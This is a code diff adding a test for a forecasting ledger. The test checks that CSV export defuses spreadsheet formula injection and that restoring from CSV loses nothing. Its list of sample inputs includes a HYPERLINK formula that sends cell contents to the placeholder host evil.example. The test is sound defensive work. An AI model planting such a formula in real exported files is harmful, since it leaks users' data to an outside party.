@@ -246,3 +246,32 @@ def test_cli_verify_head_and_key_file(ledger, open_question, cli, tmp_path, monk
     assert bad.returncode == 1 and "signature" in bad.stderr
     junk = cli("verify", "--head", "nonsense")
     assert junk.returncode != 0 and "SEQ:HASH" in junk.stderr
+
+
+# ---------------------------------------------------------------------- output that cannot hurt
+DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-3", "@SUM(A1)", "'quoted already"]
+
+
+def test_csv_export_neutralises_formulas_and_restores_the_original_text(ledger, tmp_path):
+    import csv
+
+    from forecasts.ledger import Ledger
+
+    ledger.add_question("rain", title="=1+1 rain?", closes="2300-01-01")
+    for i, why in enumerate(DANGEROUS):
+        ledger.log("rain", 0.3 + i / 100, by=f"f{i}", why=why)
+    ledger.add_event("-2 dead", on="2020-01-01", goldstein=-5)
+    files = ledger.export(tmp_path / "csv", "csv")
+    with files["forecasts"].open(newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    cells = [r["rationale"] for r in rows]
+    assert cells == ["'" + w for w in DANGEROUS]  # no cell starts with a formula character
+    assert [float(r["probability"]) for r in rows] == [0.3 + i / 100 for i in range(len(DANGEROUS))]  # numbers stay numbers
+    with files["events"].open(newline="") as fh:
+        (event,) = csv.DictReader(fh)
+    assert event["title"] == "'-2 dead" and float(event["goldstein"]) == -5.0
+    fresh = Ledger.open(tmp_path / "restored.duckdb", create=True)
+    fresh.restore(tmp_path / "csv")
+    assert fresh.verify().head == ledger.verify().head  # lossless: every hash matches
+    assert list(fresh.forecasts()["rationale"]) == DANGEROUS
+    assert fresh.questions()["title"].iloc[0] == "=1+1 rain?"
